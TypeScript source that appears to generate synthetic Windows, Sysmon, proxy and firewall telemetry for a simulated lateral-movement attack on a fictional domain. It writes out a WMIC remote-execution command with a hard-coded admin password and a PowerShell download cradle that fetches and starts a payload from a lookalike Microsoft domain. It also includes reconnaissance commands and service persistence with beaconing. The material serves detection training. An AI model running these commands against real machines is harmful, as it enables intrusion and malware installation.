/**
 * The attack hidden in the demo: from John Doe's workstation, someone holding the `admin`
 * password uses WMIC to run a PowerShell download cradle on the database server. The payload
 * it fetches installs itself as a service and starts calling home. Every step leaves the
 * traces Windows, Sysmon, the proxy and the firewall would really leave, with ids that link.
 */
import type { Identity } from './accounts.js';
import { MINUTE, MS, SECOND } from './clock.js';
import type { DeskSession } from './desk.js';
import { DOMAIN } from './estate.js';
import { unlabelledImage } from './images.js';
import { USER_AGENTS, type Site } from './internet.js';
import { explicitCredentials, logOff, logOn } from './logon.js';
import type { Machine, Proc } from './machine.js';
import { webRequest } from './network.js';
import { spawn } from './process.js';
import type { Rng } from './random.js';
import { installService } from './services.js';
import { connection, dnsQuery, fileCreated } from './telemetry.js';
import { fetchFrom } from './web.js';
import type { World } from './world.js';

/** The attacker's web server, on a name made to pass for Microsoft's. */
const PAYLOAD_SITE: Site = {
  host: 'micros0ft-cdn.com',
  ip: '203.0.113.47',
  category: 'Uncategorized',
  secure: false,
  weight: 0,
  paths: ['/payload.exe'],
};

/** The person whose session the attack starts from. */
export const ATTACK_VICTIM = 'jdoe';

/** The server the attack moves to. */
export const ATTACK_TARGET = 'SQL01';

const SERVICE_NAME = 'WinUpdSvc';
const PAYLOAD_PATH = 'C:\\Windows\\System32\\payload.exe';
const PASSWORD = 'Spring2025!';
const IMPLANT_AGENT = 'Mozilla/5.0 (Windows NT 10.0; Win64; x64; Trident/7.0; rv:11.0) like Gecko';

/** One step of the attack, for the story a reader is told. */
export interface AttackStep {
  /** ISO 8601 UTC. */
  readonly time: string;
  readonly computer: string;
  readonly summary: string;
}

/** A machine as the story names it. */
export interface StoryHost {
  readonly name: string;
  readonly fqdn: string;
  readonly ip: string;
}

/** What the attack did, for tests and for the reader. */
export interface AttackFacts {
  readonly source: StoryHost;
  readonly target: StoryHost;
  /** The account whose session launched the attack: `CORP\jdoe`. */
  readonly compromisedAccount: string;
  /** The account whose password was used on the target: `CORP\admin`. */
  readonly usedAccount: string;
  readonly commandLine: string;
  readonly remoteCommandLine: string;
  readonly attackStart: string;
  readonly payload: {
    readonly url: string;
    readonly domain: string;
    readonly ip: string;
    readonly path: string;
  };
  readonly service: { readonly name: string; readonly imagePath: string };
  readonly steps: readonly AttackStep[];
}

interface Attack {
  readonly world: World;
  readonly rng: Rng;
  readonly steps: AttackStep[];
}

/**
 * Writes the attack from `session` (John Doe at WS03) against `target`, starting a few hours
 * before the end of the window.
 */
export function wmicAttack(world: World, session: DeskSession, target: Machine): AttackFacts {
  const rng = world.rng.fork('attack');
  const attack: Attack = { world, rng, steps: [] };
  const start = world.clock.length - rng.int(150, 299) * MINUTE - rng.int(0, MINUTE - 1);
  const url = `http://${PAYLOAD_SITE.host}/payload.exe`;
  const remote =
    'powershell -ExecutionPolicy Bypass -NoProfile -Command ' +
    `Invoke-WebRequest -Uri ${url} -OutFile payload.exe; Start-Process payload.exe`;
  const command =
    `wmic /node:"${target.ip}" /user:"admin" /password:"${PASSWORD}" ` +
    `process call create "${remote}"`;

  const wmic = launch(attack, session, start, command);
  const rpcPort = reachOut(attack, session, wmic, target, start);
  const logon = remoteLogon(
    attack,
    target,
    session.desk.machine,
    start + rng.int(300, 700) * MS,
    rpcPort,
  );
  const cradle = remoteProcess(attack, target, logon, start + rng.int(900, 1_400) * MS, remote);
  const payload = download(attack, cradle, start + rng.int(2, 3) * SECOND);
  persist(attack, target, payload, logon, start);

  return {
    source: describe(session.desk.machine),
    target: describe(target),
    compromisedAccount: session.desk.account.qualified,
    usedAccount: `${DOMAIN.netbios}\\admin`,
    commandLine: command,
    remoteCommandLine: remote,
    attackStart: world.clock.iso(start),
    payload: { url, domain: PAYLOAD_SITE.host, ip: PAYLOAD_SITE.ip, path: PAYLOAD_PATH },
    service: { name: SERVICE_NAME, imagePath: PAYLOAD_PATH },
    steps: [...attack.steps].sort((a, b) => a.time.localeCompare(b.time)),
  };
}

/** A PowerShell window in the user's session, a little reconnaissance, then WMIC. */
function launch(attack: Attack, session: DeskSession, start: number, command: string): Proc {
  const { world, rng } = attack;
  const shell = spawn(world.rec, start - rng.int(4, 6) * MINUTE, session.explorer, {
    image: 'powershell',
    commandLine: '"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe" ',
    cwd: `C:\\Users\\${session.desk.user.name}\\`,
    console: true,
  });
  spawn(world.rec, start - rng.int(150, 200) * SECOND, shell, {
    image: 'whoami',
    commandLine: '"C:\\Windows\\system32\\whoami.exe" /all',
  });
  spawn(world.rec, start - rng.int(60, 120) * SECOND, shell, {
    image: 'net',
    commandLine: '"C:\\Windows\\system32\\net.exe" group "Domain Admins" /domain',
  });

  const wmic = spawn(world.rec, start, shell, { image: 'wmic', commandLine: command });
  note(
    attack,
    start,
    session.desk.machine,
    `${session.desk.account.qualified} runs WMIC against a remote host`,
  );
  return wmic;
}

/** WMIC presents the typed credentials and opens DCOM to the target. Returns the client port. */
function reachOut(
  attack: Attack,
  session: DeskSession,
  wmic: Proc,
  target: Machine,
  start: number,
): number {
  const { world, rng } = attack;
  const workstation = session.desk.machine;
  const port = connection(world.rec, start + rng.int(200, 400) * MS, wmic, {
    ip: target.ip,
    port: 135,
  });
  explicitCredentials(world.rec, workstation, start + rng.int(250, 450) * MS, {
    subject: session.identity,
    targetUser: 'admin',
    targetDomain: DOMAIN.netbios,
    server: target.fqdn,
    info: `RPCSS/${target.fqdn}`,
    process: wmic,
  });
  connection(world.rec, start + rng.int(700, 850) * MS, wmic, {
    ip: target.ip,
    port: rng.int(49_664, 49_700),
  });
  return port;
}

/** The target accepts `admin` over NTLM, since WMIC was given an address rather than a name. */
function remoteLogon(
  attack: Attack,
  target: Machine,
  source: Machine,
  at: number,
  port: number,
): Identity {
  const { world } = attack;
  const client = { ip: source.ip, port, workstation: source.name };
  const account = world.account('admin');
  const logon = logOn(world.rec, target, at, { kind: 'network', account, auth: 'ntlm', client });
  note(attack, at, target, `network logon as ${account.qualified} from ${source.ip} (NTLM)`);
  return logon;
}

/** DCOM starts a WMI provider host, which creates the requested process as `admin`. */
function remoteProcess(
  attack: Attack,
  target: Machine,
  logon: Identity,
  at: number,
  command: string,
): Proc {
  const { world, rng } = attack;
  const host = spawn(world.rec, at, target.core.dcomLaunch, {
    image: 'wmiprvse',
    commandLine: 'C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding',
    identity: target.networkService,
  });
  const when = at + rng.int(300, 600) * MS;
  const cradle = spawn(world.rec, when, host, {
    image: 'powershell',
    commandLine: command,
    identity: logon,
    integrity: 'High',
    console: true,
  });
  note(attack, when, target, 'WmiPrvSE.exe starts PowerShell with a download cradle');
  return cradle;
}

/** The cradle resolves the site, fetches the payload through the proxy and saves it. */
function download(attack: Attack, cradle: Proc, at: number): Proc {
  const { world, rng } = attack;
  const target = cradle.machine;
  dnsQuery(world.rec, at, cradle, PAYLOAD_SITE.host, [PAYLOAD_SITE.ip]);

  const connectAt = at + rng.int(20, 80) * MS;
  const port = connection(world.rec, connectAt, cradle, { ip: PAYLOAD_SITE.ip, port: 80 });
  webRequest(world.rec, rng, connectAt + rng.int(5, 30) * MS, {
    clientIp: target.ip,
    clientPort: port,
    site: PAYLOAD_SITE,
    path: '/payload.exe',
    method: 'GET',
    userAgent: USER_AGENTS.powershell,
    sent: rng.int(180, 260),
    received: 74_752,
    action: 'TCP_MISS',
    newUpstream: true,
  });
  note(attack, connectAt, target, `GET http://${PAYLOAD_SITE.host}/payload.exe through the proxy`);

  const savedAt = connectAt + rng.int(600, 1_500) * MS;
  fileCreated(world.rec, savedAt, cradle, PAYLOAD_PATH);
  const payload = spawn(world.rec, savedAt + rng.int(200, 500) * MS, cradle, {
    image: unlabelledImage(PAYLOAD_PATH),
    commandLine: `"${PAYLOAD_PATH}" `,
  });
  note(attack, savedAt, target, `payload saved to ${PAYLOAD_PATH} and started`);
  return payload;
}

/** The payload installs itself as an automatic service, which then calls home. */
function persist(
  attack: Attack,
  target: Machine,
  payload: Proc,
  logon: Identity,
  start: number,
): void {
  const { world, rng } = attack;
  const installAt = start + rng.int(6, 9) * SECOND;
  installService(world.rec, target, installAt, logon, {
    name: SERVICE_NAME,
    imagePath: PAYLOAD_PATH,
    kind: 'service',
    start: 'auto',
    account: 'LocalSystem',
  });
  note(
    attack,
    installAt,
    target,
    `service ${SERVICE_NAME} installed with the payload as its image`,
  );

  const runAt = installAt + rng.int(400, 900) * MS;
  logOn(world.rec, target, runAt - 20 * MS, { kind: 'service', identity: target.system });
  const service = spawn(world.rec, runAt, target.core.services, {
    image: payload.image,
    commandLine: PAYLOAD_PATH,
    identity: target.system,
    integrity: 'System',
  });
  logOff(world.rec, target, start + rng.int(40, 90) * SECOND, logon, 3);
  beacon(attack, service, runAt);
}

/** Every five minutes or so, until the window ends, the service reaches its server. */
function beacon(attack: Attack, service: Proc, from: number): void {
  const { world, rng } = attack;
  const site: Site = { ...PAYLOAD_SITE, secure: true, paths: ['/'] };
  let at = from + rng.int(20, 40) * SECOND;
  note(attack, at, service.machine, `the service starts calling ${site.host} over HTTPS`);
  for (let first = true; at < world.clock.length; first = false) {
    fetchFrom(world.rec, rng, at, service, site, {
      userAgent: IMPLANT_AGENT,
      lookup: first,
      sent: rng.int(300, 700),
      received: rng.int(200, 1_200),
    });
    at += rng.around(5 * 60, 40) * SECOND;
  }
}

function note(attack: Attack, at: number, machine: Machine, summary: string): void {
  attack.steps.push({ time: attack.world.clock.iso(at), computer: machine.fqdn, summary });
}

function describe(machine: Machine): StoryHost {
  return { name: machine.name, fqdn: machine.fqdn, ip: machine.ip };
}
